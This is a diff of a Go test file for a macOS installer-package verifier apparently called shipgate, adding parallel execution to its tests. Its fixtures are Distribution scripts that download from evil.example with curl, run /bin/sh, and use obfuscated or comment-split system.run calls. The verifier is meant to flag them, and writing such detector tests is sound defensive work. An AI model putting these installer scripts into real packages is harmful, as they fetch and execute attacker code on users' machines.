@@ -67,6 +67,7 @@ func hasFinding(res *Result, rule signing.Rule, sev signing.Severity, words ...s
 // TestDistributionProductbuild: the Distribution productbuild writes for
 // one component package passes with no finding, and is read.
 func TestDistributionProductbuild(t *testing.T) {
+	t.Parallel()
 	res := verifyBytes(t, withDistribution(t, exampleDist()), machofile.SignTime)
 	if got := statuses(res); got != "apple-pkg:valid apple-pkg-cms:valid" || len(res.Findings) != 0 {
 		t.Fatalf("statuses %s, findings %v", got, res.Findings)
@@ -84,6 +85,7 @@ func TestDistributionProductbuild(t *testing.T) {
 // TestDistributionPercentEncodedRef: productbuild percent-encodes the
 // component's name in the pkg-ref ("#Example%20App.pkg"); it resolves.
 func TestDistributionPercentEncodedRef(t *testing.T) {
+	t.Parallel()
 	p, _ := testPKI(t)
 	s := signedSpec(t)
 	for _, f := range pkgfile.ExamplePackage(p.PKI, false) {
@@ -105,6 +107,7 @@ func TestDistributionPercentEncodedRef(t *testing.T) {
 // archive, an entry the archive lacks) makes Installer install code
 // shipgate never saw: an error naming the reference.
 func TestAttackDistributionPackageOutside(t *testing.T) {
+	t.Parallel()
 	for name, href := range map[string]string{
 		"https":        "https://updates.example.net/app.pkg",
 		"http":         "http://updates.example.net/app.pkg",
@@ -133,6 +136,7 @@ func TestAttackDistributionPackageOutside(t *testing.T) {
 // TestAttackDistributionSecondPackageOutside: the archive's own component
 // is named, and a second pkg-ref installs a package from the network.
 func TestAttackDistributionSecondPackageOutside(t *testing.T) {
+	t.Parallel()
 	dist := strings.Replace(exampleDist(), "</installer-gui-script>",
 		`    <choice id="extra" visible="false"><pkg-ref id="net.evil"/></choice>
     <pkg-ref id="net.evil">https://evil.example/helper.pkg</pkg-ref>
@@ -148,6 +152,7 @@ func TestAttackDistributionSecondPackageOutside(t *testing.T) {
 // pkg-ref names ships in the signed archive: a warning, and its Payload
 // and Scripts are still walked.
 func TestAttackDistributionUnreferencedComponent(t *testing.T) {
+	t.Parallel()
 	payload := pkgfile.Gzip(pkgfile.CPIO([]pkgfile.CPIOFile{
 		{Name: ".", Mode: 0o040755},
 		{Name: "./Library/LaunchDaemons/x.plist", Mode: 0o100644, Data: []byte("<plist/>")},
@@ -182,6 +187,7 @@ func TestAttackDistributionUnreferencedComponent(t *testing.T) {
 // differently is refused (pkg/distribution-malformed): what Installer
 // installs could be another package than the one shipgate resolved.
 func TestAttackDistributionAmbiguous(t *testing.T) {
+	t.Parallel()
 	d := exampleDist()
 	ref := ">#app.pkg<"
 	for name, dist := range map[string]string{
@@ -225,6 +231,7 @@ func TestAttackDistributionAmbiguous(t *testing.T) {
 // installed: a warning naming the programs called, and each script is
 // listed.
 func TestAttackDistributionExternalScripts(t *testing.T) {
+	t.Parallel()
 	dist := strings.Replace(exampleDist(), `<choice id="default"/>`, `<options customize="never" allow-external-scripts="true"/>
     <installation-check script="check()"/>
     <volume-check script="system.runOnce('/usr/bin/curl', '-o', '/tmp/x', 'https://evil.example/x')"/>
@@ -251,6 +258,7 @@ function check() { return system.run("/bin/sh", "-c", "id") == 0; }
 // no call shipgate can see (a call through another name) is still a
 // warning.
 func TestAttackDistributionExternalScriptsOnly(t *testing.T) {
+	t.Parallel()
 	dist := strings.Replace(exampleDist(), `<choice id="default"/>`, `<options allow-external-scripts="true"/><script>var s = system; var r = "ru" + "n"; s[r]("/bin/sh");</script><choice id="default"/>`, 1)
 	res := verifyBytes(t, withDistribution(t, dist), machofile.SignTime)
 	if !hasFinding(res, RuleDistributionExternalScripts, signing.SeverityWarning, "allow-external-scripts", "not seen") {
@@ -261,6 +269,7 @@ func TestAttackDistributionExternalScriptsOnly(t *testing.T) {
 // TestAttackDistributionSystemRunInChoice: a system.run call in a choice's
 // selected expression, without allow-external-scripts, is reported.
 func TestAttackDistributionSystemRunInChoice(t *testing.T) {
+	t.Parallel()
 	dist := strings.Replace(exampleDist(), `<choice id="default"/>`, `<choice id="default" selected="system.run('/tmp/payload') == 0"/>`, 1)
 	res := verifyBytes(t, withDistribution(t, dist), machofile.SignTime)
 	if !hasFinding(res, RuleDistributionExternalScripts, signing.SeverityWarning, `<choice id="default" selected>: run /tmp/payload`) {
@@ -272,6 +281,7 @@ func TestAttackDistributionSystemRunInChoice(t *testing.T) {
 // splits "system.r" from "un(": one reading joins the text, the scan sees
 // the call in either.
 func TestAttackDistributionCommentedRunCall(t *testing.T) {
+	t.Parallel()
 	dist := strings.Replace(exampleDist(), `<choice id="default"/>`, `<script>system.run<!-- -->('/bin/sh')</script><choice id="default"/>`, 1)
 	res := verifyBytes(t, withDistribution(t, dist), machofile.SignTime)
 	if !hasFinding(res, RuleDistributionExternalScripts, signing.SeverityWarning, "run") {
@@ -280,6 +290,7 @@ func TestAttackDistributionCommentedRunCall(t *testing.T) {
 }
 
 func TestRunCalls(t *testing.T) {
+	t.Parallel()
 	for code, want := range map[string][]string{
 		`system.run("/bin/sh", "-c", "x")`:     {"run /bin/sh"},
 		`system . runOnce ( '/usr/bin/true' )`: {"runOnce /usr/bin/true"},
@@ -297,6 +308,7 @@ func TestRunCalls(t *testing.T) {
 // TestParseDistributionErrorOffset: errors are *FormatError values naming
 // the Distribution and the byte the problem is at.
 func TestParseDistributionErrorOffset(t *testing.T) {
+	t.Parallel()
 	doc := `<installer-gui-script><options/><options/></installer-gui-script>`
 	_, err := ParseDistribution([]byte(doc))
 	var fe *FormatError
@@ -337,6 +349,7 @@ func FuzzDistribution(f *testing.F) {
 // TestAttackDistributionLowercaseName: on a case-insensitive volume
 // "distribution" is the Distribution; it is read as one.
 func TestAttackDistributionLowercaseName(t *testing.T) {
+	t.Parallel()
 	p, _ := testPKI(t)
 	s := signedSpec(t)
 	s.Files = pkgfile.ExamplePackage(p.PKI, false)
@@ -387,6 +400,7 @@ func BenchmarkParseDistribution(b *testing.B) {
 // naming the choice and the reference; productbuild's "default" choice,
 // which holds no pkg-ref, is not one.
 func TestAttackDistributionChoiceWithoutPackage(t *testing.T) {
+	t.Parallel()
 	d := exampleDist()
 	for name, dist := range map[string]string{
 		"other-id": strings.Replace(d, `visible="false"><pkg-ref id="com.example.app"/>`, `visible="false"><pkg-ref id="com.example.other"/>`, 1),
@@ -410,6 +424,7 @@ func TestAttackDistributionChoiceWithoutPackage(t *testing.T) {
 // TestDistributionChoices: choices are read with the pkg-refs inside
 // them, a nested choice's apart from its parent's.
 func TestDistributionChoices(t *testing.T) {
+	t.Parallel()
 	d, err := ParseDistribution([]byte(`<installer-gui-script><choice id="a"><pkg-ref id="x"/><choice id="b"><pkg-ref id="y"/></choice><pkg-ref id="z"/></choice><pkg-ref id="x">#x.pkg</pkg-ref></installer-gui-script>`))
 	if err != nil {
 		t.Fatal(err)
